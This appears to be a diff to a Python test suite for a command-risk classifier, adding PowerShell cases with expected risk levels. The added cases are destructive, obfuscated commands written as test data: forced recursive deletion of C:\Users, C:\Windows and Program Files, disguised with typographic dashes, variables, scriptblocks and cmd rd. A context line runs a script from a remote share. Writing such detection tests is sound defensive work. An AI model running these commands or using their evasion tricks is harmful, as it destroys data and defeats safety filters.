@@ -161,6 +161,18 @@ from tests.safety._levels import B, C, D, M, S
         ("gcim Win32_UserProfile | rcim", B),
         ("Clear-DnsClientCache", M),
         ("pwsh -NoProfile -File \\\\198.51.100.7\\s\\a.ps1", C),
+        # grammar gaps, typographic dashes and quotes, array arguments, variables set by cmdlet
+        ("$ok ? (Remove-Item C:\\ProgramData -Recurse -Force) : $null", B),
+        ("Remove-Item \u2013Recurse \u2014Force C:\\Users", B),
+        ("Remove-Item \u2018C:\\Users\u2019 -Recurse -Force", B),
+        ("Remove-Item @('C:\\tmp\\a', $env:windir) -Recurse -Force", D),
+        ("Remove-Item @('C:\\tmp\\a', 'C:\\Windows') -Recurse -Force", B),
+        ("Set-Variable d 'C:\\Program Files'; Remove-Item $d -Recurse -Force", B),
+        ("Start-Process cmd -ArgumentList @('/c', 'rd', '/s', '/q', 'C:\\Users')", B),
+        ('[scriptblock]::Create("Remove-Item $env:ProgramData -Recurse").Invoke()', B),
+        ("Remove-Item \"C:\\Program $('Files')\" -Recurse -Force", B),
+        ("Remove-Item ('C:\\USERS'.ToLower()) -Recurse -Force", B),
+        ("Clear-DnsClientCache; Clear-BCCache -Force", M),
     ],
 )
 def test_ps8_powershell_mechanisms(command: str, expected: RiskLevel) -> None:
